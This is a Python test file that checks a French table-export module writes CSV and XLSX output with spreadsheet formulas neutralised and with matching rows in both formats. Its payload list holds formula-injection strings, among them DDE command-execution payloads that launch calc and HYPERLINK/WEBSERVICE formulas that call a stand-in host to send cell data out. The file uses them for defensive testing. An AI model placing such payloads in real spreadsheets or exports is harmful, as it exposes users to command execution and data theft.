"""What leaves as a table is the same rows in both formats, read by other hands, and never a formula."""

import csv
import io
import zipfile
from datetime import date, time
from xml.etree import ElementTree

import pytest

from numerai.base.formulas import marked, unmarked
from numerai.base.tables import read_table
from numerai.base.tables_out import TableOut, as_csv, as_xlsx
from tests.support import outgoing

NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://exemple.invalid?x="&A1;"Ouvrir")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://exemple.invalid";"//a")',
    '=WEBSERVICE("http://exemple.invalid")',
    "+1+1",
    "+687 74 12 34",
    "-2+3",
    "- apporter des chaises",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    *(f"{sign}=1+1" for sign in "\u202a\u200e\u2066\u061c\u180e\u3164\u2800\u0301\ufe0f\x01"),
    "\u202a \u200e\t+1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u22121+1",
    "'=1+1",
    "a;=1+1",
    '"=1+1',
    "#REF!",
]


def table(*rows: tuple) -> TableOut:
    scope = (("Filtre", "=tout"), ("Lignes", str(len(rows))))
    return TableOut("essai", "Essai", ("Texte", "Après"), rows, scope)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))[1:]


def xlsx_rows(data: bytes, sheet: int = 1) -> tuple[list[list[str]], int]:
    """Read without the library that wrote: the texts of the cells, and how many formulas there are."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in archive.namelist():
            shared = [_text(entry) for entry in ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))]
        tree = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
    rows = [[_cell(cell, shared) for cell in row] for row in tree.iter(f"{NAMESPACE}row")]
    return rows, len(list(tree.iter(f"{NAMESPACE}f")))


def _cell(cell: ElementTree.Element, shared: list[str]) -> str:
    value = cell.findtext(f"{NAMESPACE}v") or ""
    return {"s": lambda: shared[int(value)], "inlineStr": lambda: _text(cell)}.get(cell.get("t", ""), lambda: value)()


def _text(entry: ElementTree.Element) -> str:
    return "".join(part.text or "" for part in entry.iter(f"{NAMESPACE}t"))


def same(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\x01", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_leaves_as_text_in_both_formats(payload: str) -> None:
    out = table((payload, "après"))
    (_, line) = csv_rows(as_csv(out))
    assert outgoing.comma_separated(as_csv(out)) == outgoing.workbook(as_xlsx(out)) == []
    assert not line[0].startswith(tuple("=+-@\t\r\n＝＋－＠\u2212"))
    assert [unmarked(line[0]), line[1]] == [same(payload), "après"]
    rows, formulas = xlsx_rows(as_xlsx(out))
    assert formulas == 0
    assert rows[1] == [same(payload), "après"]


def test_both_formats_give_the_same_rows() -> None:
    out = table(*((payload, str(number)) for number, payload in enumerate(PAYLOADS)))
    rows, formulas = xlsx_rows(as_xlsx(out))
    assert formulas == 0
    assert [[unmarked(cell) for cell in row] for row in csv_rows(as_csv(out))] == rows


def test_a_library_that_writes_formulas_is_seen() -> None:
    """The control: written without care, the same cell is a formula."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["=1+1", "texte"])
    stream = io.BytesIO()
    workbook.save(stream)
    assert xlsx_rows(stream.getvalue())[1] == 1


@pytest.mark.parametrize("text", [*PAYLOADS, "'", "''=", "l’eau", "'hier'", "Marie"])
def test_the_mark_is_taken_back_exactly(text: str) -> None:
    assert unmarked(marked(text)) == text


def test_plain_words_carry_no_mark() -> None:
    assert [marked(text) for text in ("Marie", "'hier'", "12-14", "a=b", "")] == ["Marie", "'hier'", "12-14", "a=b", ""]


def test_values_are_french_in_csv_and_real_in_xlsx() -> None:
    out = table((date(2026, 2, 12), time(9, 30)), (2.5, True), (None, 0))
    assert csv_rows(as_csv(out))[1:] == [["12/02/2026", "9h30"], ["2,5", "oui"], ["", "0"]]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(as_xlsx(out))).worksheets[0]
    assert sheet["A2"].is_date
    assert sheet["A2"].value.date() == date(2026, 2, 12)
    assert sheet["B2"].value == time(9, 30)
    assert (sheet["A3"].value, sheet["A4"].value, sheet["B4"].value) == (2.5, None, 0)


def test_the_scope_is_said_and_an_import_leaves_it_aside() -> None:
    out = TableOut(
        "essai", "Essai", ("Date", "Commune", "Thème"), (("12/02/2026", "Koné", "IA"),), (("Filtre", "a;b"),)
    )
    read = read_table(as_csv(out), "essai.csv")
    assert read.rows[0].cells == ("Essai | Filtre : a;b",)
    assert read.rows[1].cells == ("Date", "Commune", "Thème")
    assert xlsx_rows(as_xlsx(out), 2)[0][1] == ["Filtre", "a;b"]
    assert read_table(as_xlsx(out), "essai.xlsx").rows[0].cells == ("Date", "Commune", "Thème")
